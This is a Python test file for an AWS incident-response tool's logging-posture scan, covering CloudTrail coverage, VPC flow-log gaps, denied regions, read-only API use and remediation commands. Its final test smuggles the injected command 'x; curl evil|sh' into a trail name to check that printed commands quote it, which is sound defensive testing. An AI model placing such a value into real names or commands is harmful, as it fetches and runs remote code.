"""Logging posture against the demo account over HTTP.

The demo has one logging multi-region trail (home us-east-1) and a flow log on one
VPC of one region: every region must read as logged, and every other VPC as a gap.
"""

from __future__ import annotations

from typing import Any

from awsir_tui.aws.context import AwsContext
from awsir_tui.aws.errors import FailureKind
from awsir_tui.aws.fanout import RegionOutcome
from awsir_tui.aws.posture import (
    RegionPosture,
    TrailPosture,
    VpcPosture,
    management_coverage,
    remedies,
    scan_posture,
)
from tests.helpers_app import demo_context


async def scan(ctx: AwsContext, regions: list[str]) -> dict[str, RegionOutcome[RegionPosture]]:
    return {outcome.region: outcome async for outcome in scan_posture(ctx, regions)}


async def test_every_demo_region_is_logged_by_the_multi_region_trail(demo: Any) -> None:
    facts = demo.facts
    outcomes = await scan(demo_context(demo), list(demo.regions))
    assert set(outcomes) == set(demo.regions)
    for region, outcome in outcomes.items():
        posture = outcome.value
        assert posture is not None and outcome.ok, region
        assert posture.cloudtrail_logging is True
        assert posture.multi_region_covered
        trail = next(t for t in posture.trails if t.name == facts.trail_name)
        assert trail.is_logging and trail.multi_region and trail.home_region == "us-east-1"
        assert trail.management_read and trail.management_write
        assert trail.log_file_validation
        assert trail.s3_bucket == facts.trail_bucket
        assert "CloudTrail logging: yes; multi-region trail covers it" in posture.verdict()


async def test_vpcs_without_flow_logs_are_counted_per_region(demo: Any) -> None:
    outcomes = await scan(demo_context(demo), list(demo.regions))
    flow_region = demo.facts.flow_log_region
    ec2 = demo.client("ec2", flow_region)
    logged = {log["ResourceId"] for log in ec2.describe_flow_logs()["FlowLogs"]}
    for region, outcome in outcomes.items():
        posture = outcome.value
        assert posture is not None
        assert posture.vpcs, f"{region} has VPCs in the demo"
        covered = {vpc.vpc_id for vpc in posture.vpcs if vpc.covered}
        if region == flow_region:
            assert covered == logged and len(covered) == 1
        else:
            assert covered == set()
        missing = len(posture.vpcs) - len(covered)
        assert len(posture.vpcs_without_flow_logs) == missing
        assert posture.verdict().endswith(
            f"VPCs without flow logs: {missing} of {len(posture.vpcs)}"
        )
        assert posture.has_gap


async def test_a_denied_region_is_reported_and_the_others_still_answer(demo: Any) -> None:
    home = "us-east-1"  # the demo trail's home region
    denied = next(r for r in demo.regions if r != home)
    with demo.denying(denied):
        outcomes = await scan(demo_context(demo), list(demo.regions))
    posture = outcomes[denied].value
    assert posture is not None
    assert posture.trail_failure is not None and posture.trail_failure.kind is FailureKind.DENIED
    assert posture.vpc_failure is not None and posture.vpc_failure.kind is FailureKind.DENIED
    assert posture.cloudtrail_logging is None
    assert "unknown (denied)" in posture.verdict()
    assert remedies(posture) == []  # nothing is known missing, so nothing to switch on
    for region in demo.regions:
        if region != denied:
            other = outcomes[region].value
            assert other is not None and other.cloudtrail_logging is True and other.vpcs


async def test_denied_trail_home_region_makes_the_trail_unknown_not_off(demo: Any) -> None:
    """Another region still lists the trail, but must not claim it is off."""
    home = "us-east-1"
    other = next(r for r in demo.regions if r != home)
    with demo.denying(home):
        outcomes = await scan(demo_context(demo), [home, other])
    posture = outcomes[other].value
    assert posture is not None and posture.trail_failure is None
    [trail] = posture.trails
    assert trail.name == demo.facts.trail_name and trail.problem
    assert posture.cloudtrail_logging is None
    assert "CloudTrail logging: unknown" in posture.verdict()
    assert not any("cloudtrail" in c for fix in remedies(posture) for c in fix.commands)


async def test_remedies_name_the_uncovered_vpcs_and_never_a_trail_that_logs(demo: Any) -> None:
    region = next(r for r in demo.regions if r != demo.facts.flow_log_region)
    posture = (await scan(demo_context(demo), [region]))[region].value
    assert posture is not None
    [fix] = remedies(posture)
    [command] = fix.commands
    assert command.startswith("aws ec2 create-flow-logs --resource-type VPC")
    assert f"--region {region}" in command
    for vpc in posture.vpcs:
        assert vpc.vpc_id in command


async def test_posture_only_sends_read_operations(demo: Any) -> None:
    ctx = demo_context(demo)
    await scan(ctx, list(demo.regions))
    operations = {call.operation for call in ctx.guard.calls}
    assert {
        "DescribeTrails",
        "GetTrailStatus",
        "GetEventSelectors",
        "DescribeVpcs",
        "DescribeFlowLogs",
    } <= operations
    assert not any(call.mutating for call in ctx.guard.calls)


def test_selectors_basic_and_advanced() -> None:
    write_only = {
        "EventSelectors": [{"ReadWriteType": "WriteOnly", "IncludeManagementEvents": True}]
    }
    assert management_coverage(write_only) == (False, True, False)
    no_management = {
        "EventSelectors": [
            {
                "ReadWriteType": "All",
                "IncludeManagementEvents": False,
                "DataResources": [{"Type": "AWS::S3::Object", "Values": ["arn:aws:s3"]}],
            }
        ]
    }
    assert management_coverage(no_management) == (False, False, True)
    advanced = {
        "AdvancedEventSelectors": [
            {
                "FieldSelectors": [
                    {"Field": "eventCategory", "Equals": ["Management"]},
                    {"Field": "readOnly", "Equals": ["true"]},
                ]
            },
            {"FieldSelectors": [{"Field": "eventCategory", "Equals": ["Data"]}]},
        ]
    }
    assert management_coverage(advanced) == (True, False, True)


def test_printed_commands_quote_attacker_chosen_names() -> None:
    stopped = TrailPosture(
        name="x; curl evil|sh",
        arn="arn:aws:cloudtrail:us-east-1:1:trail/x; curl evil|sh",
        home_region="us-east-1",
        multi_region=True,
        organization=False,
        s3_bucket="b",
        log_file_validation=False,
        cloudwatch_logs="",
        is_logging=False,
        management_read=True,
        management_write=True,
    )
    posture = RegionPosture(
        "eu-west-1", trails=(stopped,), vpcs=(VpcPosture("vpc-1", "", "", False),)
    )
    assert posture.cloudtrail_logging is False
    start, flows = remedies(posture)
    assert start.commands == (
        "aws cloudtrail start-logging --name "
        "'arn:aws:cloudtrail:us-east-1:1:trail/x; curl evil|sh' --region us-east-1",
    )
    assert "--resource-ids vpc-1 " in flows.commands[0]
